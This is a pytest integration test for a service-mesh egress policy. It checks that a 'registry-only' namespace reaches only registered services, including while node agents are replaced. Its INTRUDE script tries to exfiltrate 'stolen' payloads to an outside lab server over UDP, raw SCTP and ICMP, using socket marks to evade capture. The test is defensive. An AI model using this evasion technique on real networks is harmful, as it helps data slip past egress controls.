"""A namespace that may reach only the registry, on an installed mesh: from a pod's start, and as its label changes."""

import json
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from meshapi import names
from tests.support.lab import eventually
from tests.support.mesh import Mesh
from tests.support.wire import Wire, captured

pytestmark = pytest.mark.root

NS = "default-deny"
LABEL = "culvert.io/egress"
INTRUDE = """
import socket, sys
address = sys.argv[1]
def send(family, kind, protocol, mark, payload, to):
    try:
        with socket.socket(family, kind, protocol) as sock:
            if mark:
                sock.setsockopt(socket.SOL_SOCKET, 36, mark)
            sock.sendto(payload, to)
    except OSError as error:
        print(error)
for mark in (0, 0x539, 0x1000):
    send(socket.AF_INET, socket.SOCK_DGRAM, 0, mark, b"stolen", (address, 9999))
    send(socket.AF_INET, socket.SOCK_DGRAM, 0, mark, b"stolen", (address, 53))
    send(socket.AF_INET, socket.SOCK_RAW, 132, mark, b"stolen", (address, 0))
    send(socket.AF_INET, socket.SOCK_RAW, 1, mark, b"\\x08\\0\\0\\0\\0\\1\\0\\1stolen", (address, 0))
"""
ENTRY = """
apiVersion: networking.istio.io/v1
kind: ServiceEntry
metadata: {name: outside}
spec:
  hosts: [outside.example]
  addresses: [ADDRESS]
  ports: [{number: 9000, name: tcp, protocol: TCP}]
  resolution: NONE
"""


@pytest.fixture(scope="module")
def app(mesh: Mesh) -> Iterator[Mesh]:
    """Pods that start in a namespace with the label; the client excludes a port from capture."""
    mesh.namespace(NS, enrolled=True)
    mesh.lab.kubectl("label", "namespace", NS, f"{LABEL}=registry-only")
    mesh.echo(NS, "server", "node1")
    mesh.client(NS, "client", "node2")
    annotations = {"traffic.sidecar.istio.io/excludeOutboundPorts": "9000,53,9999"}
    container = {"name": "main", "securityContext": {"runAsUser": 0, "capabilities": {"add": ["NET_RAW"]}}}
    template = {"metadata": {"annotations": annotations}, "spec": {"containers": [container]}}
    patch = {"spec": {"template": template}}
    mesh.lab.kubectl("patch", "deployment", "client", "-n", NS, "-p", json.dumps(patch))
    mesh.lab.rolled_out("client", namespace=NS)
    eventually(lambda: mesh.captured(NS, "client") and mesh.captured(NS, "server"), "both are captured")
    yield mesh
    mesh.lab.kubectl("delete", "namespace", NS, "--wait=false")


def egress(mesh: Mesh) -> dict[str, tuple[str, str]]:
    """State and EGRESS of the namespace's pods, by application."""
    done = mesh.culvert("status", "--pods", "-o", "json")
    assert done.returncode == 0, done.stderr
    items = [one for one in json.loads(done.stdout)["pods"] if one["namespace"] == NS]
    return {one["name"].partition("-")[0]: (one["state"], one["egress"]) for one in items}


@contextmanager
def wire(mesh: Mesh, address: str) -> Iterator[list[Wire]]:
    """What the client sends to an address, as its node's cable shows it."""
    client = mesh.pod(NS, "client")["status"]["podIP"]
    with captured(mesh.node_link("node2"), f"src host {client} and dst host {address}") as found:
        yield found


def test_only_the_registry_is_reached_and_the_wire_shows_nothing_else(app: Mesh) -> None:
    assert app.request(NS, "client", "server").endswith("hello"), "a service, by name"
    assert egress(app) == dict.fromkeys(("client", "server"), ("announced", "registry-only"))
    with app.outside_server() as address, wire(app, address) as seen:
        assert app.request(NS, "client", address).startswith("<"), "although its port is excluded from capture"
        app.logged("client", f"{address}:9000", "is not in the service registry and culvert.io/egress is registry-only")
        app.lab.run("client", "python3", "-c", INTRUDE, address, namespace=NS)
        done = app.culvert("explain", f"{NS}/{app.pod(NS, 'client')['metadata']['name']}", f"{address}:9000")
        assert "culvert.io/egress is registry-only" in done.stdout, done.stderr
    assert seen[0].text.strip() == ""


def test_a_service_entry_and_the_label_change_what_is_reached(app: Mesh) -> None:
    def reached(address: str) -> bool:
        return app.request(NS, "client", address).endswith("hello")

    with app.outside_server() as address:
        assert not reached(address)
        app.lab.apply(ENTRY.replace("ADDRESS", address), namespace=NS)
        eventually(lambda: reached(address), "the entry's address is reached")
        app.lab.kubectl("delete", "serviceentry", "outside", "-n", NS)
        eventually(lambda: not reached(address), "without the entry it is refused")
        app.lab.kubectl("label", "namespace", NS, f"{LABEL}-")
        eventually(lambda: reached(address), "without the label everything is reached")
        assert egress(app)["client"] == ("announced", None)
        with wire(app, address) as seen:
            app.lab.run("client", "python3", "-c", INTRUDE, address, namespace=NS)
        assert seen[0].packets("stolen") >= 8, "without the label all of it leaves"
        app.lab.kubectl("label", "namespace", NS, f"{LABEL}=registry-only")
        eventually(lambda: not reached(address), "with the label again nothing is")
        with wire(app, address) as seen:
            app.lab.run("client", "python3", "-c", INTRUDE, address, namespace=NS)
        assert seen[0].text.strip() == ""


def test_nothing_leaves_while_the_node_agent_and_ztunnel_are_replaced(app: Mesh) -> None:
    app.lab.kubectl("label", "namespace", NS, f"{LABEL}=registry-only", "--overwrite")
    eventually(lambda: egress(app)["client"] == ("announced", "registry-only"), "the label is in force")
    with app.outside_server() as address, wire(app, address) as seen:
        for selector in (f"k8s-app={names.NODE_AGENT_DAEMON_SET}", f"app={names.ZTUNNEL_SERVICE_ACCOUNT}"):
            here = ("-l", selector, "--field-selector", "spec.nodeName=node2")
            app.lab.kubectl("delete", "pods", "-n", names.DEFAULT_NAMESPACE, *here, "--grace-period=1", "--wait=false")
        for _ in range(3):
            app.lab.run("client", "python3", "-c", INTRUDE, address, namespace=NS)
        app.ready()
        eventually(lambda: app.request(NS, "client", "server").endswith("hello"), "the new ztunnel carries")
        app.lab.run("client", "python3", "-c", INTRUDE, address, namespace=NS)
    assert seen[0].text.strip() == ""
